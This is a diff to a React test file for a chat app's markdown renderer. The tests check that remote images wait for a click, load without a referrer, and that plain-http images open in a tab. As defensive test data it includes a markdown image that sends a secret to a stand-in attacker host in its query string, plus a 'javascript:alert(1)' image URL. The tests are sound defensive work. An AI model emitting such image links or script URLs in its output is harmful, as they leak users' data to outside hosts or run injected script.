@@ -1,4 +1,4 @@
-import { render, screen, waitFor, within } from '@testing-library/react'
+import { fireEvent, render, screen, waitFor, within } from '@testing-library/react'
 import { describe, expect, test } from 'vitest'
 import { safeUrl } from '../../src/domain/safe-url'
 import { MarkdownContent } from '../../src/ui/chat/markdown/markdown-content'
@@ -73,18 +73,63 @@ describe('messages as markdown', () => {
     expect(container.querySelector('[href^="javascript" i], [src^="javascript" i]')).toBeNull()
   })
 
-  test('an image with an unsafe URL leaves its alt text and no <img>; a safe one renders', () => {
+  test('an image with an unsafe URL leaves its alt text and no <img>; a safe one can be loaded', () => {
     const { container } = render(
       <MarkdownContent
         text={'![tracker](javascript:alert(1)) ![chart](https://example.com/c.png)'}
       />,
     )
+    expect(within(container).getByText('tracker')).toBeInTheDocument()
+    fireEvent.click(screen.getByRole('button', { name: 'Load image from example.com' }))
     expect(container.querySelectorAll('img')).toHaveLength(1)
     expect(screen.getByRole('img', { name: 'chart' })).toHaveAttribute(
       'src',
       'https://example.com/c.png',
     )
-    expect(within(container).getByText('tracker')).toBeInTheDocument()
+  })
+})
+
+describe('images from other sites (docs/security.md, "Remote images")', () => {
+  test('are not fetched by themselves: a placeholder names the host and the alt text', () => {
+    const { container } = render(
+      <MarkdownContent
+        text={'Here: ![the chart](https://evil.example/x.png?d=SECRET)'}
+        streaming
+      />,
+    )
+    expect(container.querySelector('img')).toBeNull()
+    expect(container).not.toHaveTextContent('SECRET')
+    expect(container).toHaveTextContent('Image: the chart (evil.example)')
+    expect(screen.getByRole('button', { name: 'Load image from evil.example' })).toBeVisible()
+  })
+
+  test('load only when the user asks, lazily and without a referrer', () => {
+    const { container } = render(<MarkdownContent text={'![](https://evil.example:8443/x.png)'} />)
+    expect(container).toHaveTextContent('Image (evil.example:8443)')
+    fireEvent.click(screen.getByRole('button', { name: 'Load image from evil.example:8443' }))
+    const image = container.querySelector('img')
+    expect(image).toHaveAttribute('src', 'https://evil.example:8443/x.png')
+    expect(image).toHaveAttribute('referrerpolicy', 'no-referrer')
+    expect(screen.queryByRole('button', { name: /Load image/ })).toBeNull()
+  })
+
+  test('a plain-http image is never loaded in the page (its policy allows https only): it opens in a tab', () => {
+    const { container } = render(<MarkdownContent text={'![map](http://maps.example/m.png)'} />)
+    expect(container.querySelector('img')).toBeNull()
+    expect(screen.queryByRole('button', { name: /Load image/ })).toBeNull()
+    const open = screen.getByRole('link', { name: 'Open image from maps.example' })
+    expect(open).toHaveAttribute('href', 'http://maps.example/m.png')
+    expect(open).toHaveAttribute('rel', 'noopener noreferrer nofollow')
+  })
+
+  test("the app's own images (relative or same origin) show at once", () => {
+    const own = `${window.location.origin}/api/storage/a.png`
+    const { container } = render(<MarkdownContent text={`![a](/files/a.png) ![b](${own})`} />)
+    expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
+      '/files/a.png',
+      own,
+    ])
+    expect(screen.queryByRole('button', { name: /Load image/ })).toBeNull()
   })
 })
 
